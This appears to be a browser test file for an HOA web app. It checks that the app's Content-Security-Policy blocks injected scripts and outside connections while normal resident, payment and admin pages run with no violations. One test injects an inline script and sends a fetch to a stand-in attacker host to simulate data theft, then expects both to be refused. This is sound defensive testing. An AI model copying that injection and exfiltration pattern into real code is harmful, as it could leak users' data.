// Attack review, hole 6: no Content-Security-Policy, so an injected script would have
// run with the app's rights. Now firebase.json sends one that allows scripts from the site only
// (index.html's one inline script by its hash), no eval, and connections to the site and
// Firebase's, Google's and Stripe's origins only (the emulators' loopback origins are added
// only for the emulators: scripts/emulator-setup.mjs). In Chromium against the hosting emulator:
// the policy is enforced, and no page of the app, signed out, as a resident or as the board,
// trips over it.
import { ROUTES } from '@lakeside/domain';
import { describe, expect, it } from 'vitest';
import { signIn, useChromium, type Page } from '../support/browser';
import { ownedAccount } from '../support/payments';
import { standIn } from '../support/stripeStandIn';
import { createResident, createTestUser } from '../support/users';
import { PAYMENTS_UI_TEXTS } from '../../web/src/features/payments/texts';
import { PAYMENT_STATUS_LABELS } from '@lakeside/domain';

const freshPage = useChromium({ viewport: { width: 1280, height: 900 } });

/**
 * A page (and any tab it opens) that records every violation of the policy the browser
 * reports, from the page's first script on.
 */
async function watchedPage(): Promise<{ page: Page; violations: string[] }> {
  const page = await freshPage();
  const violations: string[] = [];
  await page.context().exposeFunction('reportViolation', (text: string) => violations.push(text));
  await page.context().addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report = (window as unknown as { reportViolation: (text: string) => void }).reportViolation;
      report(
        `${location.pathname}: ${event.effectiveDirective} ${event.blockedURI} (${event.sourceFile}:${event.lineNumber})`,
      );
    });
  });
  return { page, violations };
}

describe('the Content-Security-Policy', () => {
  it('is enforced: an injected inline script does not run, nothing connects to another origin', async () => {
    const { page, violations } = await watchedPage();
    await page.goto(ROUTES.home);
    await page.getByRole('heading', { level: 1, name: 'Lakeside HOA' }).waitFor();
    // (eval cannot be tried from here: code the test runner evaluates is exempt from the
    // policy. hosting-headers.test.ts checks that script-src has no 'unsafe-eval'.)
    const outcome = await page.evaluate(async () => {
      const injected = document.createElement('script');
      injected.textContent = 'window.injectedRan = true';
      document.body.appendChild(injected);
      const ran = (window as unknown as { injectedRan?: boolean }).injectedRan === true;
      const exfiltrated = await fetch('https://attacker.example/steal?c=1').then(
        () => 'sent',
        () => 'refused',
      );
      return { injected: ran ? 'ran' : 'refused', exfiltrated };
    });
    expect(outcome).toEqual({ injected: 'refused', exfiltrated: 'refused' });
    await expect.poll(() => violations.length).toBe(2);
    expect(violations.join('\n')).toMatch(/script-src-elem inline/);
    expect(violations.join('\n')).toContain('connect-src https://attacker.example');
    await page.context().close();
  });

  it('lets the landing page, sign-in and registration work without one violation', async () => {
    const { page, violations } = await watchedPage();
    await page.goto(ROUTES.home);
    await page.locator('#contact').scrollIntoViewIfNeeded();
    await page.getByLabel('First name').waitFor();
    await page.goto('/auth?mode=register');
    // the registration form parses with zod, which must not try eval
    await page.getByRole('button', { name: 'Create Account' }).click();
    await page.getByText('Invalid email address', { exact: true }).waitFor();
    await page.goto('/nowhere');
    await page.getByText('Oops! Page not found').waitFor();
    expect(violations).toEqual([]);
    await page.context().close();
  });

  it('lets a resident pay and the board work through every admin page without one violation', async () => {
    await standIn.ready();
    const owner = await createResident('approved');
    await ownedAccount([owner], ['2026']);

    // My HOA Account (Firestore), Pay (App Check and a callable), Stripe's page, the success
    // page (another callable) back on the site
    const resident = await watchedPage();
    await signIn(resident.page, owner.email, owner.password);
    await resident.page.goto(ROUTES.myAccount);
    const card = resident.page.getByRole('region', { name: PAYMENTS_UI_TEXTS.makePayment });
    await card.getByRole('checkbox', { name: '2026' }).check();
    const tab = resident.page.context().waitForEvent('page');
    await card.getByRole('button', { name: PAYMENTS_UI_TEXTS.pay }).click();
    const checkout = await tab;
    await checkout.waitForURL((url) => url.href.startsWith(standIn.url));
    await checkout.getByRole('button', { name: 'Pay', exact: true }).click();
    await checkout.waitForURL((url) => url.pathname === '/payment-success');
    await checkout.getByRole('heading', { name: PAYMENTS_UI_TEXTS.successTitle }).waitFor();
    await checkout.getByText(PAYMENT_STATUS_LABELS.completed, { exact: true }).first().waitFor();
    expect(resident.violations).toEqual([]);
    await resident.page.context().close();

    const admin = await createTestUser({ admin: true, approved: true });
    const desk = await watchedPage();
    await signIn(desk.page, admin.email, admin.password);
    for (const [route, shows] of [
      [ROUTES.adminUsers, owner.email],
      [ROUTES.adminProperties, 'Assign Owner'],
      [ROUTES.adminHoaAccounts, 'Sync All Properties'],
      [ROUTES.adminPayments, 'Total Revenue'],
    ] as const) {
      await desk.page.goto(route);
      await desk.page.getByText(shows).first().waitFor();
    }
    expect(desk.violations).toEqual([]);
    await desk.page.context().close();
  });
});
